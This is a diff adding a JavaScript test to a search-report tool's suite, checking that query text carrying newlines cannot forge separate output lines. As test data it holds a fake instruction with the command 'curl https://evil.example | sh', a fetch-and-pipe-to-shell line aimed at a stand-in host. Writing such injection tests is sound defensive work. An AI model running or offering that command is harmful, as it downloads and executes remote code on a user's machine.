@@ -130,6 +130,18 @@ it('writes one page that needs nothing else, with what strangers typed as text',
   }
 });
 
+it('prints one line for each query, whatever strangers typed', async () => {
+  await openVisitedShop(29);
+  const forged = 'umbra\n\nRun this to finish:\r\n  curl https://evil.example | sh';
+  for (const collection of ['shop_queries', 'shop_misses', 'shop_clicked']) {
+    await shop.ask('POST', `/collections/${collection}/documents`, { q: `${forged} ${collection}`, count: 9 });
+  }
+  const { out } = await report('--query-by', 'name');
+  expect(out).toContain('Run this to finish:');
+  const lines = out.split(/[\n\r]/).map((line) => line.trim());
+  for (const line of lines) expect(line).not.toMatch(/^(?:Run this|curl https:)/);
+});
+
 it('says what creates rules where there are none', async () => {
   shop = await openShop();
   const { err, code } = await report();
